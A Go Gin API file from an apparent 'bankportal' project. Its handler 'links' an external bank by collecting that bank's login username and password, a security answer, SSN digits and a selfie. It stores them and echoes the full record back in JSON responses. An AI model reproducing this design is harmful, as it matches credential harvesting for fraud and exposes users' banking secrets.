package api

import (
	"errors"
	"net/http" // HTTP status codes
	"strings"  // String manipulation

	"bankportal/internal/service" // Workflow layer
	"bankportal/internal/storage" // Upload store

	"github.com/gin-gonic/gin" // Gin web framework
)

// LinkBankHandler records an external bank for administrative verification
func LinkBankHandler(banks service.BankService, files storage.FileStore) gin.HandlerFunc {
	return func(c *gin.Context) {
		account, ok := currentAccount(c)
		if !ok {
			c.JSON(http.StatusUnauthorized, gin.H{"error": "Please login to continue."})
			return
		}
		in := service.LinkBankInput{
			BankName:         strings.TrimSpace(c.PostForm("bank_name")),
			AccountNumber:    strings.TrimSpace(c.PostForm("account_number")),
			RoutingNumber:    strings.TrimSpace(c.PostForm("routing_number")),
			PhoneNumber:      strings.TrimSpace(c.PostForm("phone_number")),
			SecurityQuestion: strings.TrimSpace(c.PostForm("security_question")),
			SecurityAnswer:   strings.TrimSpace(c.PostForm("security_answer")),
			SSNLast4:         strings.TrimSpace(c.PostForm("ssn_last4")),
			AccountUsername:  strings.TrimSpace(c.PostForm("account_username")),
			AccountPassword:  strings.TrimSpace(c.PostForm("account_password")),
		}
		// The three routing fields are required; the rest is optional
		if in.BankName == "" || in.AccountNumber == "" || in.RoutingNumber == "" {
			c.JSON(http.StatusBadRequest, gin.H{"error": "Bank name, account number, and routing number are required."})
			return
		}
		// Optional selfie upload, stored before the row is written
		if fh, err := c.FormFile("selfie"); err == nil {
			url, err := files.Save(fh)
			if err != nil {
				c.JSON(http.StatusInternalServerError, gin.H{"error": "Failed to store selfie"})
				return
			}
			in.SelfieURL = url
		}
		bank, err := banks.Link(c.Request.Context(), account.ID, in)
		if err != nil {
			c.JSON(http.StatusInternalServerError, gin.H{"error": "Failed to link bank"})
			return
		}
		c.JSON(http.StatusCreated, gin.H{
			"message":     "Bank linked successfully!",
			"linked_bank": bank, // The client follows up on /link-status/{id}/
		})
	}
}

// LinkStatusHandler is the owner-scoped status view for a linked bank
func LinkStatusHandler(banks service.BankService) gin.HandlerFunc {
	return func(c *gin.Context) {
		account, ok := currentAccount(c)
		if !ok {
			c.JSON(http.StatusUnauthorized, gin.H{"error": "Please login to continue."})
			return
		}
		bankID, ok := idParam(c, "id")
		if !ok {
			c.JSON(http.StatusNotFound, gin.H{"error": "Not found"})
			return
		}
		bank, err := banks.Get(c.Request.Context(), account.ID, bankID)
		if err != nil {
			if errors.Is(err, service.ErrNotFound) {
				// Owner mismatch reads the same as a missing record
				c.JSON(http.StatusNotFound, gin.H{"error": "Not found"})
				return
			}
			c.JSON(http.StatusInternalServerError, gin.H{"error": "Failed to load linked bank"})
			return
		}
		c.JSON(http.StatusOK, gin.H{"linked_bank": bank})
	}
}
